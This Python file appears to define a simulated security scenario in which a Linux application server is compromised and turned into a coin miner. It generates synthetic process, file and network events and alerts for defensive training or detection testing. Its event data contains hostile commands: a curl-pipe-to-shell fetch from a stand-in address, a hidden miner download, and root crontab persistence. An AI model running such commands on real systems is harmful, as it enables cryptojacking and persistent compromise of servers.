"""The application server starts to work for somebody else."""

from __future__ import annotations

from vedette.simulation.alerts import Triage
from vedette.simulation.files import artifact
from vedette.simulation.scene import Scene, scenario

POOL = ("pool.coinfield.example", "203.0.113.99")


@scenario("linux-miner", "Coin miner on a Linux server", "T1190", "T1059.004", "T1053.003", "T1496")
def play(scene: Scene) -> None:
    """The application's process runs a shell, which downloads a miner, hides it and puts it into cron."""
    start = scene.moment(0, "12:40")
    desk = scene.desk(scene.server("linux"), start)
    app = desk["app"]
    visit = desk.connect(
        desk["nginx"], start, "203.0.113.98", 44_120, action="InboundConnectionAccepted", local_port=443
    )
    shell = desk.start(app, scene.later(start, 1), "sh", "/bin/sh -c curl -s http://203.0.113.98/x.sh | sh")
    fetch = desk.start(shell, scene.later(start, 1.2), "curl", "curl -s http://203.0.113.98/x.sh")
    loaded = desk.connect(fetch, scene.later(start, 1.6), "203.0.113.98", 80)
    scene.alert(
        desk,
        loaded.time,
        "Application process piped a download into a shell",
        "The order application started a shell that ran a script straight from an external address.",
        app,
        shell,
        fetch,
        loaded,
        visit,
        category="Execution",
        severity="High",
        techniques=("T1190", "T1059.004"),
        user=app.account,
    )
    miner = artifact("/usr/local/lib/.cache/kworkerd", "miner 6.2", size=3_211_264)
    second = desk.start(shell, scene.later(start, 4), "curl", f"curl -s -o {miner.path} http://203.0.113.98/k")
    desk.connect(second, scene.later(start, 4.4), "203.0.113.98", 80)
    dropped = desk.file(
        second, scene.later(start, 6), miner, FileOriginUrl="http://203.0.113.98/k", FileOriginIP="203.0.113.98"
    )
    desk.start(shell, scene.later(start, 6.5), "chmod", f"chmod +x {miner.path}")
    cron = desk.start(shell, scene.later(start, 8), "crontab", "crontab -")
    table = desk.file(
        cron,
        scene.later(start, 8.2),
        artifact("/var/spool/cron/crontabs/root", f"cron {desk.host.name}", size=96),
        "FileModified",
    )
    running = desk.start(desk["cron"], scene.later(start, 62), miner, f"{miner.path} -o {POOL[0]}:3333 -B")
    desk.connect(running, scene.later(start, 63), POOL[1], 3333, POOL[0])
    mining = desk.connect(running, scene.later(start, 900), POOL[1], 3333, POOL[0])
    scene.alert(
        desk,
        mining.time,
        "Coin miner started by cron",
        "A hidden program was put into root's cron table and keeps a connection to a mining pool.",
        dropped,
        cron,
        table,
        running,
        mining,
        category="Malware",
        severity="Medium",
        techniques=("T1053.003", "T1496"),
        family="CoinMiner",
        threat="Trojan:Linux/CoinMiner.K",
        user=app.account,
        triage=Triage("New", investigation="Queued"),
    )
